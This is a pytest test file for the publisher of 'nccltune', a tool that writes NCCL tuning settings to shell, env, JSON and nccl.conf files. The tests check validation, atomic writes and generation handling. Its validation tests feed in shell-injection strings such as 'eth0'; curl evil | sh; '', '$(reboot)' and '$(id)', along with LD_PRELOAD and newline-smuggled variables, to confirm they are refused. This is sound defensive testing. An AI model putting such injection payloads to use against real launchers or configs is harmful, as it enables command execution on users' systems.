"""Publisher: what launchers source must be exactly what was tuned, and never half-written."""

from __future__ import annotations

import errno
import fcntl
import json
import os
import shutil
import stat
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import killed_writer
from publishing import publish_set

from nccltune.errors import EXIT_BUSY, EXIT_CHECK_FAILED, EXIT_CONFIG, BusyError, InputError
from nccltune.publish import (
    CONF_BEGIN,
    CONF_END,
    DEMO_LINE,
    Provenance,
    PublishError,
    atomic_write,
    read_published,
    remove_nccl_conf_block,
    render_env,
    render_json,
    render_sh,
    update_nccl_conf,
    validate_env,
)
from nccltune.publish import generations as pub_generations

ENV = {
    "NCCL_ALGO": "allreduce:tree,ring",
    "NCCL_PROTO": "^LL128",
    "NCCL_BUFFSIZE": "4194304",
    "NCCL_TOPO_FILE": "/var/lib/nccltune/ncclTopology.xml",
    "NCCL_SOCKET_IFNAME": "=eth0",
    # %h.%p as NCCL_DEBUG_FILE would use it; NCCL_DEBUG_FILE itself is never published.
    "NCCL_COMM_ID_NOTE": "nccl.%h.%p",
    "NCCL_IB_HCA": "mlx5_0:1,mlx5_1:1",
    "NCCL_X": "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_./:,=+^@%-",
    "TORCH_NCCL_ASYNC_ERROR_HANDLING": "1",
    # nccltune's own, of the names a set may carry (its tuner's); nccl.conf leaves it out.
    "NCCLTUNE_TUNER_FINGERPRINT": "0123abcd",
}

FORBIDDEN = [
    "$",
    "`",
    '"',
    "'",
    " ",
    "\t",
    "\n",
    "\r",
    ";",
    "\\",
    "|",
    "&",
    "<",
    ">",
    "(",
    ")",
    "*",
    "?",
    "[",
    "]",
    "{",
    "}",
    "~",
    "#",
    "!",
    "\x00",
    "\x1b",
    "é",
    "\u2028",
    "\ufeff",
]


def make_prov(**overrides: object) -> Provenance:
    fields: dict[str, object] = {
        "nccltune_version": "0.1.0",
        "created_at": "2024-05-01T12:00:00+00:00",
        "topology_fingerprint": "sha256:0123abcd",
        "nccl_version": "2.21.5",
        "backend": "nccl",
        "demo": False,
        "profile": "llm-training",
        "gains": {"1MiB": 1.12, "64MiB": 1.05},
        "note": None,
    }
    fields.update(overrides)
    return Provenance(**fields)  # type: ignore[arg-type]


def snapshot_dir(directory: Path, *, skip: tuple[str, ...] = ()) -> dict[str, bytes]:
    """Every entry below ``directory``: file bytes, or b"-> target" for a symlink (the published set
    lives in generation directories, the well-known names are links)."""
    found: dict[str, bytes] = {}
    for path in sorted(directory.rglob("*")):
        rel = str(path.relative_to(directory))
        if rel in skip:
            continue
        if path.is_symlink():
            found[rel] = b"-> " + os.readlink(path).encode()
        elif path.is_file():
            found[rel] = path.read_bytes()
    return found


def temps_in(directory: Path) -> list[str]:
    return sorted(str(p.relative_to(directory)) for p in directory.rglob("*") if ".tmp-" in p.name)


def shells() -> list[str]:
    found = ["/bin/sh"]
    for name in ("dash", "bash"):
        path = shutil.which(name)
        if path:
            found.append(path)
    return found


def source_in_shell(
    shell: str, directory: Path, filename: str, names: list[str], *, allexport: bool = False
) -> list[str]:
    prefix = "set -a; " if allexport else ""
    script = f"set -eu; {prefix}. ./{filename}; " + " ".join(f'printf "%s\\n" "${n}";' for n in names)
    proc = subprocess.run(
        [shell, "-c", script],
        cwd=directory,
        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin")},
        capture_output=True,
        text=True,
        check=True,
    )
    return proc.stdout.splitlines()


def parse_like_systemd(text: str) -> dict[str, str]:
    """systemd EnvironmentFile= rules: blank lines and lines starting with # or ; are skipped,
    whitespace around name and value is dropped, quotes/backslashes/$ would be interpreted. A value
    that relies on none of that is taken as written; anything else fails the test."""
    out: dict[str, str] = {}
    for line in text.split("\n"):
        line = line.strip()
        if not line or line[0] in "#;":
            continue
        assert "=" in line, line
        name, value = line.split("=", 1)
        assert name == name.strip() and value == value.strip(), line
        assert not set(value) & set("\"'\\$"), f"systemd would reinterpret {line!r}"
        out[name] = value
    return out


def parse_like_docker(text: str) -> dict[str, str]:
    """docker --env-file: leading whitespace trimmed, # lines skipped, value verbatim after '='."""
    out: dict[str, str] = {}
    for line in text.split("\n"):
        line = line.lstrip()
        if not line or line.startswith("#"):
            continue
        name, value = line.split("=", 1)
        out[name] = value
    return out


def parse_like_nccl(data: bytes) -> dict[str, str]:
    """NCCL's setEnvFile (src/misc/param.cc): '#' lines skipped, name up to the first '=', value the
    rest of the line verbatim, setenv(..., 0) so the first assignment wins. Older parsers lack the
    '#' check and would turn a comment holding '=' into a variable, so such a line fails the test."""
    out: dict[str, str] = {}
    for raw in data.split(b"\n"):
        line = raw.decode()
        assert not (line.startswith("#") and "=" in line), f"pre-'#'-check NCCL would read {line!r}"
        if line.startswith("#") or "=" not in line:
            continue
        name, value = line.split("=", 1)
        out.setdefault(name, value)
    return out


@pytest.fixture
def umask_077() -> Iterator[None]:
    old = os.umask(0o077)
    try:
        yield
    finally:
        os.umask(old)


# -- validation ------------------------------------------------------------------------------


def test_validate_accepts_nccl_values_and_sorts() -> None:
    clean = validate_env(ENV)
    assert clean == ENV
    assert list(clean) == sorted(ENV)


@pytest.mark.parametrize("ch", FORBIDDEN, ids=[repr(c) for c in FORBIDDEN])
def test_validate_refuses_each_forbidden_character(ch: str) -> None:
    with pytest.raises(InputError) as info:
        validate_env({"NCCL_ALGO": "Ring", "NCCL_PROTO": f"LL{ch}128"}, source="config.yaml")
    msg = str(info.value)
    assert info.value.exit_code == EXIT_CONFIG
    assert "NCCL_PROTO" in msg
    assert repr(ch) in msg
    assert msg.startswith("config.yaml:")
    assert "\n" not in info.value.message  # the offending character is shown escaped


@pytest.mark.parametrize("value", ["$(reboot)", "`reboot`", "'; reboot; '", "a\nNCCL_EVIL=1", "${HOME}"])
def test_validate_refuses_injection_attempts(value: str) -> None:
    with pytest.raises(InputError, match="NCCL_SOCKET_IFNAME"):
        validate_env({"NCCL_SOCKET_IFNAME": value})


@pytest.mark.parametrize(
    "name",
    ["nccl_algo", "NCCL_", "LD_PRELOAD", "NCCL_ALGO\n", "NCCL_A;B", "NCCL_algo", "NCCL_A B", "TORCH_X"],
)
def test_validate_refuses_bad_names(name: str) -> None:
    with pytest.raises(InputError) as info:
        validate_env({name: "1"})
    assert repr(name) in str(info.value)
    assert info.value.exit_code == EXIT_CONFIG


def test_validate_refuses_empty_and_overlong_values() -> None:
    with pytest.raises(InputError, match="NCCL_ALGO: empty value"):
        validate_env({"NCCL_ALGO": ""})
    assert validate_env({"NCCL_TOPO_FILE": "a" * 1023})
    with pytest.raises(InputError, match="NCCL_TOPO_FILE: value is 1024 characters"):
        validate_env({"NCCL_TOPO_FILE": "a" * 1024})


def test_validate_refuses_non_string_value() -> None:
    with pytest.raises(InputError, match="NCCL_BUFFSIZE: value must be a string"):
        validate_env({"NCCL_BUFFSIZE": 4194304})  # type: ignore[dict-item]


# -- rendering -------------------------------------------------------------------------------


@pytest.mark.parametrize("shell", shells())
def test_sourced_sh_gives_exact_values(tmp_path: Path, shell: str) -> None:
    (tmp_path / "nccl.sh").write_text(render_sh(ENV, make_prov()))
    names = sorted(ENV)
    assert source_in_shell(shell, tmp_path, "nccl.sh", names) == [ENV[n] for n in names]


@pytest.mark.parametrize("shell", shells())
def test_env_file_is_also_valid_shell(tmp_path: Path, shell: str) -> None:
    (tmp_path / "nccl.env").write_text(render_env(ENV, make_prov()))
    names = sorted(ENV)
    assert source_in_shell(shell, tmp_path, "nccl.env", names, allexport=True) == [ENV[n] for n in names]


def test_sh_exports_sorted_single_quoted() -> None:
    text = render_sh({"NCCL_PROTO": "Simple", "NCCL_ALGO": "Ring"}, make_prov())
    body = [line for line in text.splitlines() if not line.startswith("#")]
    assert body == ["export NCCL_ALGO='Ring'", "export NCCL_PROTO='Simple'"]


def test_env_file_read_by_systemd_and_docker_rules(tmp_path: Path) -> None:
    text = render_env(ENV, make_prov(note="see ticket=42"))
    assert parse_like_systemd(text) == ENV
    assert parse_like_docker(text) == ENV


def test_json_document() -> None:
    doc = json.loads(render_json(ENV, make_prov(), generation=7))
    assert doc["schema_version"] == 1
    assert doc["env"] == ENV
    assert doc["provenance"]["generation"] == 7
    assert doc["provenance"]["gains"] == {"1MiB": 1.12, "64MiB": 1.05}
    assert doc["provenance"]["demo"] is False


def test_header_first_line_and_fields() -> None:
    lines = render_env(ENV, make_prov()).splitlines()
    assert lines[0] == "# Generated by nccltune 0.1.0. Do not edit: re-run nccltune sweep."
    assert "# topology_fingerprint: sha256:0123abcd" in lines
    assert "# nccl_version: 2.21.5" in lines
    assert "# gains: 1MiB x1.120, 64MiB x1.050" in lines
    assert DEMO_LINE not in lines


def test_demo_line_present_in_every_output(tmp_path: Path) -> None:
    prov = make_prov(demo=True, backend="gloo", nccl_version=None)
    files = publish_set(tmp_path, ENV, prov)
    for path in (files.sh_path, files.env_path):
        assert DEMO_LINE in path.read_text().splitlines()[:2]
    published = read_published(tmp_path)
    assert published is not None
    assert published[1]["demo"] is True
    assert published[1]["backend"] == "gloo"


def test_header_values_cannot_break_out_of_the_comment(tmp_path: Path) -> None:
    hostile = "x\nNCCL_EVIL=1\r\nexport NCCL_EVIL=2\u2028NCCL_EVIL=3\x1b[31m"
    prov = make_prov(note=hostile, profile="p\nNCCL_EVIL=4", nccltune_version="0.1\n$(reboot)")
    for text in (render_sh(ENV, prov), render_env(ENV, prov)):
        for line in text.split("\n"):
            assert line == "" or line.startswith("#") or "NCCL_EVIL" not in line
        assert "\r" not in text and "\x1b" not in text and "\u2028" not in text
    assert parse_like_systemd(render_env(ENV, prov)) == ENV
    (tmp_path / "nccl.sh").write_text(render_sh(ENV, prov))
    assert source_in_shell("/bin/sh", tmp_path, "nccl.sh", ["NCCL_ALGO"]) == [ENV["NCCL_ALGO"]]


def test_bad_provenance_refused() -> None:
    with pytest.raises(InputError, match="gains"):
        render_json(ENV, make_prov(gains={"1MiB": float("nan")}))
    with pytest.raises(InputError, match="topology_fingerprint"):
        render_sh(ENV, make_prov(topology_fingerprint=None))
    with pytest.raises(InputError, match="demo"):
        render_env(ENV, make_prov(demo="yes"))


# -- publish ---------------------------------------------------------------------------------


def test_publish_writes_three_files_0644_and_increments_generation(tmp_path: Path, umask_077: None) -> None:
    out = tmp_path / "state"
    first = publish_set(out, ENV, make_prov())
    assert first.generation == 1
    assert sorted(p.name for p in out.iterdir()) == ["current", "generations", "nccl-single-node.env",
                                                     "nccl-single-node.sh", "nccl.env", "nccl.json", "nccl.sh"]
    assert os.readlink(out / "current") == "generations/1"
    assert first.single_sh_path is not None and first.single_env_path is not None
    for path in (first.sh_path, first.env_path, first.json_path, first.single_sh_path, first.single_env_path):
        assert os.readlink(path) == f"current/{path.name}"
        assert stat.S_IMODE(path.stat().st_mode) == 0o644
    assert stat.S_IMODE((out / "generations" / "1").stat().st_mode) == 0o755
    assert publish_set(out, ENV, make_prov()).generation == 2
    third = publish_set(out, {"NCCL_ALGO": "Ring"}, make_prov())
    assert third.generation == 3
    published = read_published(out)
    assert published is not None
    env, prov = published
    assert env == {"NCCL_ALGO": "Ring"}
    assert prov["generation"] == 3
    assert "# generation: 3" in third.sh_path.read_text().splitlines()


def test_generation_restarts_after_corrupt_json(tmp_path: Path) -> None:
    (tmp_path / "nccl.json").write_text("{not json")
    assert publish_set(tmp_path, ENV, make_prov()).generation == 1


def test_hostile_value_never_reaches_the_files(tmp_path: Path) -> None:
    publish_set(tmp_path, ENV, make_prov())
    before = snapshot_dir(tmp_path)
    hostile = {**ENV, "NCCL_SOCKET_IFNAME": "eth0'; curl evil | sh; '"}
    with pytest.raises(InputError, match="NCCL_SOCKET_IFNAME"):
        publish_set(tmp_path, hostile, make_prov())
    assert snapshot_dir(tmp_path) == before
    conf = tmp_path / "nccl.conf"
    conf.write_bytes(b"NCCL_DEBUG=WARN\n")
    with pytest.raises(InputError):
        update_nccl_conf(conf, hostile, make_prov())
    assert conf.read_bytes() == b"NCCL_DEBUG=WARN\n"


def test_hostile_value_refused_in_fresh_directory(tmp_path: Path) -> None:
    out = tmp_path / "state"
    with pytest.raises(InputError):
        publish_set(out, {"NCCL_ALGO": "$(id)"}, make_prov())
    assert not out.exists()


def test_failure_while_preparing_leaves_every_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    publish_set(tmp_path, ENV, make_prov())
    before = snapshot_dir(tmp_path, skip=("generations/last",))
    real_fsync = os.fsync

    def fsync_json_fails(fd: int) -> None:
        if os.readlink(f"/proc/self/fd/{fd}").endswith("nccl.json"):  # sh and env are complete by then
            raise OSError(errno.ENOSPC, "No space left on device")
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", fsync_json_fails)
    with pytest.raises(PublishError) as info:
        publish_set(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov())
    assert "nccl.json" in str(info.value)
    assert "ENOSPC" in str(info.value)
    # The generation counter moved on (numbers are never reused); the published set did not.
    assert snapshot_dir(tmp_path, skip=("generations/last",)) == before
    assert temps_in(tmp_path) == []


def test_killed_writer_leftover_is_harmless_and_cleaned(tmp_path: Path) -> None:
    files = publish_set(tmp_path, ENV, make_prov())
    published_sh = files.sh_path.read_bytes()
    # What writers killed between write and rename leave behind: partial temp files, which name them.
    dead = killed_writer(tmp_path / "nccl.sh", tmp_path / "nccl.json")
    # A temp of a writer that still runs (this test's parent, say) stays; one an hour old goes
    # whatever runs under its pid now (the pid was given to another process).
    live_temp = tmp_path / f".nccl.env.tmp-{os.getppid()}-cafebabe"
    live_temp.write_text("NCCL_ALGO=")
    reused = tmp_path / f".nccl-single-node.sh.tmp-{os.getppid()}-deadbeef"
    reused.write_text("export NCCL_")
    hour_ago = time.time() - 2 * 3600
    os.utime(reused, (hour_ago, hour_ago))
    foreign = tmp_path / "notes.tmp-1"
    foreign.write_text("keep")
    os.utime(foreign, (hour_ago, hour_ago))

    assert files.sh_path.read_bytes() == published_sh
    names = sorted(ENV)
    assert source_in_shell("/bin/sh", tmp_path, "nccl.sh", names) == [ENV[n] for n in names]
    assert read_published(tmp_path) == (ENV, json.loads(files.json_path.read_text())["provenance"])

    publish_set(tmp_path, ENV, make_prov())
    assert not any(p.exists() for p in dead) and not reused.exists()
    assert live_temp.exists()  # may belong to a writer that is still running
    assert foreign.exists()


def test_only_nccltunes_temps_of_dead_writers_in_a_directory_of_ours_are_removed(tmp_path: Path) -> None:
    """remove_dead_temps: the temp names nccltune writes (of the targets given, in a shared
    directory), in a directory this user owns and nobody else may write; a link is removed, never
    followed, a half-built generation (files only) removed by descriptor, and a link to the
    directory never walked into."""
    from nccltune.files.atomicfile import TEMP_NAME_RE, remove_dead_temps, temp_path

    ours = tmp_path / "state"
    ours.mkdir(mode=0o755)
    left = killed_writer(ours / "nccl.sh", ours / "nccltune.prom", ours / "history-note")
    pid = int(TEMP_NAME_RE.match(left[0].name)["pid"])  # type: ignore[index]
    outside = tmp_path / "precious"
    outside.write_text("root's\n")
    link = ours / f".nccl.env.tmp-{pid}-0badf00d"
    link.symlink_to(outside)
    building = ours / f".7.tmp-{pid}-0badf00d"  # a generation a killed publisher was building
    building.mkdir()
    (building / "nccl.sh").write_text("export NCCL_")
    (building / "ncclTopology.xml").symlink_to(outside)
    nested = ours / f".8.tmp-{pid}-0badf00d"  # no publisher nests directories: left alone
    (nested / "sub").mkdir(parents=True)
    not_ours = ours / f"nccl.sh.tmp-{pid}-0badf00d"  # no leading dot: no temp name of nccltune's
    not_ours.write_text("x")
    # A shared directory: only the temps of the names nccltune writes there.
    shared_only = remove_dead_temps(ours, {"nccltune.prom"})
    assert [p.name for p in shared_only] == [p.name for p in left if p.name.startswith(".nccltune.prom.")]
    # Through a link to it, nothing: the directory is opened without following links.
    (tmp_path / "via-link").symlink_to(ours)
    assert remove_dead_temps(tmp_path / "via-link") == []
    # A directory another user may write to: any name there may be planted.
    ours.chmod(0o777)
    assert remove_dead_temps(ours) == []
    ours.chmod(0o755)
    gone = remove_dead_temps(ours)
    assert set(gone) == {link, building, *(p for p in left if not p.name.startswith(".nccltune.prom."))}
    assert not link.is_symlink() and not building.exists() and outside.read_text() == "root's\n"
    assert (nested / "sub").is_dir() and not_ours.exists() and not any(p.exists() for p in left)
    # A live writer's temp (this process's, as it writes) is left alone.
    mine = temp_path(ours / "nccl.json")
    mine.write_text("{")
    assert remove_dead_temps(ours) == [] and mine.exists()
    assert TEMP_NAME_RE.match(mine.name) is not None
    # The tuner plugin's build writes its library through a temp of the same name (setup.py loads
    # that module alone, so it spells the name itself).
    from nccltune.tuner import build

    fd, built = build._temp_file(ours / build.LIBRARY_NAME)
    os.close(fd)
    assert TEMP_NAME_RE.match(built.name) is not None and int(TEMP_NAME_RE.match(built.name)["pid"]) == os.getpid()  # type: ignore[index]


def test_concurrent_publisher_gives_busy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    publish_set(tmp_path, ENV, make_prov())
    before = snapshot_dir(tmp_path)
    monkeypatch.setattr(pub_generations, "_LOCK_TIMEOUT_S", 0.1)
    fd = os.open(tmp_path, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        with pytest.raises(BusyError) as info:
            publish_set(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov())
        assert info.value.exit_code == EXIT_BUSY
    finally:
        os.close(fd)
    assert snapshot_dir(tmp_path) == before


# -- atomic_write ----------------------------------------------------------------------------


@pytest.mark.parametrize("fail_at", ["fsync", "replace"])
def test_atomic_write_failure_keeps_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fail_at: str
) -> None:
    target = tmp_path / "nccl.sh"
    target.write_bytes(b"old content\n")

    def enospc(*_args: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, fail_at, enospc)
    with pytest.raises(PublishError) as info:
        atomic_write(target, "new content\n")
    monkeypatch.undo()
    err = info.value
    assert str(target) in str(err)
    assert "No space left on device" in str(err)
    assert err.errno == errno.ENOSPC
    assert err.exit_code == EXIT_CHECK_FAILED
    assert target.read_bytes() == b"old content\n"
    assert temps_in(tmp_path) == []


def test_atomic_write_replaces_and_sets_mode(tmp_path: Path, umask_077: None) -> None:
    target = tmp_path / "f"
    target.write_bytes(b"old")
    os.chmod(target, 0o600)
    atomic_write(target, b"new", mode=0o640)
    assert target.read_bytes() == b"new"
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert temps_in(tmp_path) == []


def test_read_only_filesystem_gives_publish_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "nccl.env"
    target.write_bytes(b"old\n")
    real_open = os.open

    def erofs(path: object, *args: int) -> int:
        if ".tmp-" in str(path):
            raise OSError(errno.EROFS, "Read-only file system")
        return real_open(path, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "open", erofs)
    with pytest.raises(PublishError) as info:
        atomic_write(target, "new\n")
    assert str(target) in str(info.value)
    assert "EROFS" in str(info.value)
    assert "read-only" in str(info.value)
    assert target.read_bytes() == b"old\n"


def test_read_only_directory_gives_publish_error(tmp_path: Path) -> None:
    out = tmp_path / "state"
    publish_set(out, ENV, make_prov())
    before = snapshot_dir(out)
    out.chmod(0o555)
    try:
        if os.access(out, os.W_OK):
            pytest.skip("directory permissions are not enforced for this user (root)")
        with pytest.raises(PublishError) as info:
            publish_set(out, {"NCCL_ALGO": "Tree"}, make_prov())
        assert str(out) in str(info.value)
        assert "Permission denied" in str(info.value)
    finally:
        out.chmod(0o755)
    assert snapshot_dir(out) == before


# -- read_published --------------------------------------------------------------------------


def test_read_published_none_when_nothing_published(tmp_path: Path) -> None:
    assert read_published(tmp_path) is None
    assert read_published(tmp_path / "missing") is None


@pytest.mark.parametrize(
    ("content", "match"),
    [
        ('{\n  "env": ', r"nccl.json:2: not valid JSON"),
        ("[]", "expected a JSON object"),
        ('{"schema_version": 2, "env": {}, "provenance": {}}', "unknown schema_version 2"),
        ('{"schema_version": 1, "env": [], "provenance": {}}', "'env' must be an object"),
        ('{"schema_version": 1, "env": {}, "provenance": null}', "'provenance' must be an object"),
        ('{"schema_version": 1, "env": {"NCCL_ALGO": "$(id)"}, "provenance": {}}', "NCCL_ALGO"),
    ],
)
def test_read_published_refuses_corrupt_file(tmp_path: Path, content: str, match: str) -> None:
    (tmp_path / "nccl.json").write_text(content)
    with pytest.raises(InputError, match=match) as info:
        read_published(tmp_path)
    assert str(tmp_path / "nccl.json") in str(info.value)


# -- NCCL conf block -------------------------------------------------------------------------


def block_of(data: bytes) -> list[str]:
    lines = data.decode(errors="replace").split("\n")
    start = lines.index(CONF_BEGIN)
    return lines[start : lines.index(CONF_END) + 1]


def test_conf_created_when_missing(tmp_path: Path, umask_077: None) -> None:
    conf = tmp_path / "nccl.conf"
    update_nccl_conf(conf, ENV, make_prov())
    data = conf.read_bytes()
    assert stat.S_IMODE(conf.stat().st_mode) == 0o644
    lines = data.decode().split("\n")
    assert lines[0] == CONF_BEGIN
    assert lines[-2:] == [CONF_END, ""]
    nccl_only = {k: v for k, v in ENV.items() if k.startswith("NCCL_")}
    assert parse_like_nccl(data) == nccl_only
    skipped_note = [line for line in lines if "TORCH_NCCL_ASYNC_ERROR_HANDLING" in line]
    assert len(skipped_note) == 1 and skipped_note[0].startswith("#")
    assert "NCCLTUNE_TUNER_FINGERPRINT" in skipped_note[0]


def test_conf_block_replaced_in_place_keeping_foreign_lines(tmp_path: Path) -> None:
    conf = tmp_path / "nccl.conf"
    head = b"# site settings\r\nNCCL_DEBUG=WARN\n\n  odd line \xff\xfe kept\n"
    tail = b"NCCL_IB_TIMEOUT=22\n# trailing comment without newline"
    conf.write_bytes(head + tail)
    os.chmod(conf, 0o600)

    update_nccl_conf(conf, {"NCCL_ALGO": "Ring"}, make_prov())
    first = conf.read_bytes()
    assert first.startswith(head + tail + b"\n" + CONF_BEGIN.encode())
    assert stat.S_IMODE(conf.stat().st_mode) == 0o600

    # Move the block between foreign lines, as an admin might, then update it.
    block = b"\n".join(line.encode() for line in block_of(first)) + b"\n"
    conf.write_bytes(head + block + tail)
    update_nccl_conf(conf, {"NCCL_ALGO": "Tree", "NCCL_PROTO": "Simple"}, make_prov(note="2nd"))
    second = conf.read_bytes()
    assert second.startswith(head + CONF_BEGIN.encode())
    assert second.endswith(CONF_END.encode() + b"\n" + tail)
    new_block = block_of(second)
    assert "NCCL_ALGO=Tree" in new_block and "NCCL_PROTO=Simple" in new_block
    assert "NCCL_ALGO=Ring" not in second.decode(errors="replace")
    assert second.count(CONF_BEGIN.encode()) == 1
    assert stat.S_IMODE(conf.stat().st_mode) == 0o600
    assert temps_in(tmp_path) == []


def test_conf_unchanged_update_does_not_rewrite(tmp_path: Path) -> None:
    conf = tmp_path / "nccl.conf"
    update_nccl_conf(conf, ENV, make_prov())
    inode = conf.stat().st_ino
    update_nccl_conf(conf, ENV, make_prov())
    assert conf.stat().st_ino == inode


def test_conf_comments_hold_no_equals_sign(tmp_path: Path) -> None:
    conf = tmp_path / "nccl.conf"
    update_nccl_conf(conf, ENV, make_prov(note="threshold=2 a=b", demo=True))
    # parse_like_nccl asserts that no comment line holds '=' (older NCCL would read it).
    assert parse_like_nccl(conf.read_bytes())["NCCL_ALGO"] == ENV["NCCL_ALGO"]
    assert DEMO_LINE in conf.read_text().splitlines()


def test_conf_block_warns_when_shadowed(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    conf = tmp_path / "nccl.conf"
    conf.write_bytes(b"NCCL_ALGO=Tree\n")
    update_nccl_conf(conf, {"NCCL_ALGO": "Ring"}, make_prov())
    assert "nccl.conf:1 sets NCCL_ALGO above the nccltune block" in caplog.text
    assert parse_like_nccl(conf.read_bytes())["NCCL_ALGO"] == "Tree"


@pytest.mark.parametrize(
    ("content", "line", "match"),
    [
        (f"A=1\n{CONF_BEGIN}\nNCCL_ALGO=Ring\n", 2, "BEGIN marker without an END"),
        (f"A=1\n\n{CONF_END}\n", 3, "END marker without a BEGIN"),
        (f"{CONF_BEGIN}\n{CONF_BEGIN}\n{CONF_END}\n", 2, "second BEGIN marker"),
        (f"{CONF_BEGIN}\n{CONF_END}\nX=1\n{CONF_BEGIN}\n{CONF_END}\n", 4, "second nccltune managed block"),
    ],
)
def test_conf_malformed_markers_refused(tmp_path: Path, content: str, line: int, match: str) -> None:
    conf = tmp_path / "nccl.conf"
    conf.write_text(content)
    with pytest.raises(InputError, match=match) as info:
        update_nccl_conf(conf, ENV, make_prov())
    assert info.value.line == line
    assert str(info.value).startswith(f"{conf}:{line}:")
    assert conf.read_text() == content
    with pytest.raises(InputError):
        remove_nccl_conf_block(conf)
    assert conf.read_text() == content
    assert temps_in(tmp_path) == []


def test_conf_remove_block_restores_original(tmp_path: Path) -> None:
    conf = tmp_path / "nccl.conf"
    original = b"# mine\nNCCL_DEBUG=INFO\n"
    conf.write_bytes(original)
    update_nccl_conf(conf, ENV, make_prov())
    assert remove_nccl_conf_block(conf) is True
    assert conf.read_bytes() == original
    assert remove_nccl_conf_block(conf) is False
    assert remove_nccl_conf_block(tmp_path / "absent.conf") is False
    assert not (tmp_path / "absent.conf").exists()


def test_conf_symlink_is_followed_and_kept(tmp_path: Path) -> None:
    real = tmp_path / "real.conf"
    real.write_bytes(b"NCCL_DEBUG=WARN\n")
    link = tmp_path / "nccl.conf"
    link.symlink_to(real)
    update_nccl_conf(link, {"NCCL_ALGO": "Ring"}, make_prov())
    assert link.is_symlink()
    assert "NCCL_ALGO=Ring" in real.read_text().splitlines()


def test_failure_at_the_switch_keeps_the_old_set_and_never_reuses_its_number(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    publish_set(tmp_path, ENV, make_prov())
    before = snapshot_dir(tmp_path / "generations" / "1")
    real_replace = os.replace

    def switch_fails(src: str | os.PathLike[str], dst: str | os.PathLike[str]) -> None:
        if str(dst).endswith("/current"):
            raise OSError(errno.EIO, "Input/output error")
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", switch_fails)
    with pytest.raises(PublishError, match=r"current: cannot write: .*EIO"):
        publish_set(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov())
    assert temps_in(tmp_path) == []
    monkeypatch.undo()
    assert read_published(tmp_path) is not None
    assert read_published(tmp_path)[0] == ENV  # type: ignore[index]
    assert snapshot_dir(tmp_path / "generations" / "1") == before
    assert publish_set(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov()).generation == 3


@pytest.mark.parametrize("name", ["NCCL_NET_PLUGIN", "NCCL_TUNER_PLUGIN", "NCCL_DEBUG_FILE", "NCCL_CONF_FILE",
                                  "NCCL_GRAPH_FILE", "NCCL_TOPO_DUMP_FILE"])
def test_variables_that_load_code_or_name_files_are_never_published(tmp_path: Path, name: str) -> None:
    with pytest.raises(InputError, match=f"{name}: nccltune does not publish variables that load code"):
        publish_set(tmp_path / "state", {"NCCL_ALGO": "Ring", name: "/tmp/x.so"}, make_prov())
    assert not (tmp_path / "state" / "current").exists()


@pytest.mark.parametrize("name", ["NCCL_HOSTID", "NCCL_COMM_ID", "NCCL_RAS_ADDR", "NCCL_MNNVL_CLIQUE_ID",
                                  "NCCLTUNE_WORKER_FAULT", "NCCLTUNE_ENV_FILE", "NCCLTUNE_DISABLE",
                                  "NCCLTUNE_JOB_NNODES", "NCCLTUNE_PROFILE"])
def test_names_off_the_allow_list_are_never_published(tmp_path: Path, name: str) -> None:
    """NCCL's identity variables, nccltune's internal variables and its test hooks: refused in
    either part before a byte is written, whoever decides (exit 78)."""
    for every_job, single in (({"NCCL_ALGO": "Ring", name: "1"}, {}), ({"NCCL_ALGO": "Ring"}, {name: "1"})):
        with pytest.raises(InputError, match=f"{name}: ") as err:
            publish_set(tmp_path / "state", every_job, make_prov(), single_node_env=single)
        assert err.value.exit_code == EXIT_CONFIG
        assert not (tmp_path / "state").exists()
    # What the allow-list keeps: NCCL's variables, torch's NCCL ones, the tuner's own two.
    published = publish_set(tmp_path / "state", {"NCCL_ALGO": "Ring", "NCCL_COMM_ID_NOTE": "x",
                                             "TORCH_NCCL_ASYNC_ERROR_HANDLING": "3",
                                             "NCCLTUNE_TUNER_FINGERPRINT": "ab"}, make_prov())
    assert set(published.env) == {"NCCL_ALGO", "NCCL_COMM_ID_NOTE", "TORCH_NCCL_ASYNC_ERROR_HANDLING",
                                  "NCCLTUNE_TUNER_FINGERPRINT"}


def test_the_allow_list_keeps_every_variable_nccltune_publishes_itself() -> None:
    from nccltune.names import unpublishable
    from nccltune.publish import TUNER_FINGERPRINT_VAR, TUNER_PLUGIN_VAR, TUNER_TABLE_VAR
    from nccltune.sweep.space import CATALOGUE

    for name in (TUNER_FINGERPRINT_VAR, TUNER_PLUGIN_VAR, TUNER_TABLE_VAR, "NCCL_TOPO_FILE",
                 "TORCH_NCCL_ASYNC_ERROR_HANDLING", *CATALOGUE):
        assert unpublishable(name) is None, name
    assert unpublishable("LD_PRELOAD") is not None and unpublishable("nccl_algo") is not None


def test_a_text_without_a_utf8_form_is_never_published(tmp_path: Path) -> None:
    """A lone surrogate (a file name of undecodable bytes, an escape in a document) has no UTF-8
    form: refused before a byte is written, not found when nccl.json is written after the switch."""
    with pytest.raises(InputError, match=r"provenance\.note: not valid UTF-8 text \(a lone surrogate at character 4\)"):
        publish_set(tmp_path / "state", {"NCCL_ALGO": "Ring"}, make_prov(note="see \udcff.json"))
    with pytest.raises(InputError, match=r"provenance\.class_profile\.file: not valid UTF-8"):
        publish_set(tmp_path / "state", {"NCCL_ALGO": "Ring"}, make_prov(class_profile={"file": "\ud800"}))
    assert not (tmp_path / "state").exists()


def test_a_relative_topology_file_is_never_published(tmp_path: Path) -> None:
